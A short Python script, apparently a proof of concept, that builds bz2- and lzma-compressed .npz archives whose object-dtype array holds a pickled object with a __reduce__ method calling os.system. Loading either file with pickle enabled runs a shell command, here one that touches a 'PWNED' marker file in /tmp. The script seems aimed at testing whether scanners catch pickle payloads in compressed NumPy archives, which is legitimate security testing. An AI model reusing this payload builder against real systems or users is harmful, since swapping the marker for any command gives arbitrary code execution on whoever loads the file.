import zipfile, pickle, os, io, numpy as np
class P:
    def __init__(s, tag): s.tag = tag
    def __reduce__(s): return (os.system, ('touch /tmp/r36d/PWNED_npz_' + s.tag,))
def npy(tag):
    b = io.BytesIO(); a = np.empty((1,), dtype=object); a[0] = 0
    np.lib.format.write_array_header_1_0(b, {'descr': '|O', 'fortran_order': False, 'shape': (1,)})
    b.write(pickle.dumps(P(tag), protocol=2)); return b.getvalue()
for tag, meth in [('bz2', zipfile.ZIP_BZIP2), ('lzma', zipfile.ZIP_LZMA)]:
    with zipfile.ZipFile(f'{tag}.npz', 'w', compression=meth) as z:
        z.writestr('arr_0.npy', npy(tag))
